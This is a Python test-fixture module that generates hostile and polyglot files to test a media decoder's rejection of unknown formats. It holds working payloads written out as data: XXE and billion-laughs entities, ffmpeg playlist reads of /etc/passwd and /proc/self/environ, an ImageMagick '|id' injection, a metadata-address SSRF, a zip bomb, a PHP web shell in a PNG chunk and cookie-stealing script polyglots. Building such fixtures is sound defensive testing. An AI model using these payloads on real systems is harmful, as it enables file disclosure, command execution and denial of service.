"""Files of kinds that no decoder may ever meet, and files that are two things at once."""

import io
import struct
import zipfile

from hostile.file import File, golden
from hostile.pngs import chunk

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">%s</svg>'
ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(12))
    + b"]><l>&m;</l>"
)
PLAYLIST = b"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1.0,\n%s\n#EXT-X-ENDLIST\n"


def zipped(name: str, content: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def bmp() -> bytes:
    pixels = b"\x10\x20\x30\0" * 4
    return b"BM" + struct.pack("<IIIIiiHHIIiiII", 54 + len(pixels), 0, 54, 40, 4, 1, 1, 24, 0, 0, 0, 0, 0, 0) + pixels


UNKNOWN = {
    "no-bytes.png": b"",
    "one-byte.bin": b"\xff",
    "two-bytes.jpg": b"\xff\xd8",
    "zeros.bin": bytes(100_000),
    "text.txt": b"an image, honestly\n" * 99,
    "html.html": b"<!doctype html><img src='file:///etc/passwd'><script>fetch('http://169.254.169.254')</script>",
    "svg.svg": SVG % b"<rect width='9' height='9'/>",
    "svg-file.svg": SVG % b"<image href='file:///etc/passwd' width='9' height='9'/>",
    "svg-entities.svg": ENTITIES.replace(b"<l>&m;</l>", SVG % b"<text>&m;</text>"),
    "entities.xml": ENTITIES,
    "entity-file.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>',
    "playlist-file.m3u8": PLAYLIST % b"file:///etc/passwd",
    "playlist-net.m3u8": PLAYLIST % b"http://127.0.0.1:22/",
    "playlist-concat.m3u8": PLAYLIST % b"concat:file:///etc/passwd|subfile:,,start,0,end,99,,:/proc/self/environ",
    "concat.ffconcat": b"ffconcat version 1.0\nfile '/etc/passwd'\nfile 'tcp://127.0.0.1:22'\n",
    "manifest.mpd": b'<?xml version="1.0"?><MPD><Period><BaseURL>file:///etc/passwd</BaseURL></Period></MPD>',
    "session.sdp": b"v=0\nc=IN IP4 127.0.0.1\nm=video 22 RTP/AVP 96\n",
    "magick.mvg": b"push graphic-context\nfill 'url(https://127.0.0.1/\"|id\")'\npop graphic-context\n",
    "magick.msl": b"<image><read filename='text:/etc/passwd'/><write filename='/tmp/x.php'/></image>",
    "postscript.eps": b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file 99 string readline pop show {} loop\n",
    "bitmap.bmp": bmp(),
    "bitmap-huge.bmp": bmp()[:18] + struct.pack("<ii", 2**31 - 1, -(2**31)) + bmp()[26:],
    "icon.ico": struct.pack("<HHHBBBBHHII", 0, 1, 1, 0, 0, 0, 0, 1, 32, 99, 22) + golden("png_rgb.png"),
    "picture.exr": b"\x76\x2f\x31\x01\x02\0\0\0channels\0chlist\0" + b"\xff" * 99,
    "picture.psd": b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 30_000, 30_000, 8, 3),
    "picture.jxl": b"\xff\x0a" + b"\x5a" * 99,
    "picture.jp2": b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(60),
    "picture.hdr": b"#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 99999999 +X 99999999\n",
    "picture.ppm": b"P6 99999999 99999999 255\n" + b"x" * 64,
    "matlab.mat": b"MATLAB 5.0 MAT-file" + b" " * 105 + struct.pack("<HH", 0x0100, 0x4D49),
    "vips.v": b"\xb6\xa6\xf2\x08" + struct.pack("<II", 2**31 - 1, 2**31 - 1) + bytes(52),
    "archive.zip": zipped("bomb", bytes(1_000_000)),
    "program.elf": b"\x7fELF\x02\x01\x01" + bytes(57),
    "video.flv": b"FLV\x01\x05\0\0\0\x09\0\0\0\0" + bytes(64),
    "video.ts": (b"\x47\x40\0\x10" + b"\xff" * 184) * 9,
    "video.nut": b"nut/multimedia container\0" + bytes(64),
    "sound.wav": b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0" + bytes(24),
    "sound.mp3": b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + bytes(64),
    "riff-of-nothing.webp": b"RIFF\xff\xff\xff\xffWEBX" + bytes(64),
}
VIDEO_TEXTS = (
    "playlist-file.m3u8",
    "playlist-concat.m3u8",
    "concat.ffconcat",
    "manifest.mpd",
    "session.sdp",
    "video.ts",
)


def gif_and_javascript() -> bytes:
    # Its first bytes are a variable's name, and a comment of it holds the program.
    gif = golden("gif.gif")
    at = 13 + 3 * (2 << (gif[10] & 7))
    script = b"*/=1;alert(document.cookie);//"
    return gif[:at] + b"\x21\xfe" + bytes([len(script)]) + script + b"\0" + gif[at:]


def polyglots():
    png, jpeg, mp4 = golden("png_rgb.png"), golden("jpeg_444.jpg"), golden("video_h264.mp4")
    html = b"<script>alert(1)</script>"
    archive = zipped("evil.jar", b"CAFEBABE" * 99)
    pdf_of_nothing = b"%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n"
    yield File("gif-javascript.gif", gif_and_javascript(), "seen")
    yield File("gif-html-behind.gif", golden("gif.gif") + html, "seen")
    yield File("jpeg-html.jpg", jpeg[:2] + b"\xff\xfe" + struct.pack(">H", 2 + len(html)) + html + jpeg[2:], "seen")
    yield File("jpeg-zip-behind.jpg", jpeg + archive, "seen")
    yield File("jpeg-pdf-behind.jpg", jpeg + pdf_of_nothing, "seen")
    yield File("png-php.png", png[:33] + chunk(b"tEXt", b"Comment\0<?php system($_GET[0]);?>") + png[33:], "seen")
    yield File("png-zip-behind.png", png + archive, "seen")
    yield File("png-mp4-behind.png", png + mp4, "seen")
    yield File("webp-elf-behind.webp", golden("webp_lossy.webp") + b"\x7fELF" + bytes(64), "seen")
    yield File("tiff-playlist-behind.tif", golden("tiff_rgb.tif") + PLAYLIST % b"/etc/passwd", "seen")
    yield File("pdf-zip.pdf", pdf_of_nothing + archive)
    yield File("zip-before-pdf.zip", archive + pdf_of_nothing)
    yield File("png-called-mp4.mp4", png, video=True)
    yield File("mp4-called-png.png", mp4)
    yield File("jpeg-called-video.mkv", jpeg, video=True)
    yield File("mp4-playlist-behind.mp4", mp4 + PLAYLIST % b"file:///etc/passwd", "seen", True)
    yield File("free-box-then-png.mp4", b"\0\0\0\x08free" + png, video=True)
    yield File("ftyp-of-heic-then-mp4.heic", mp4[:8] + b"heic" + mp4[12:])


def files():
    for name, data in UNKNOWN.items():
        yield File(name, data, video=name in VIDEO_TEXTS)
    yield from polyglots()
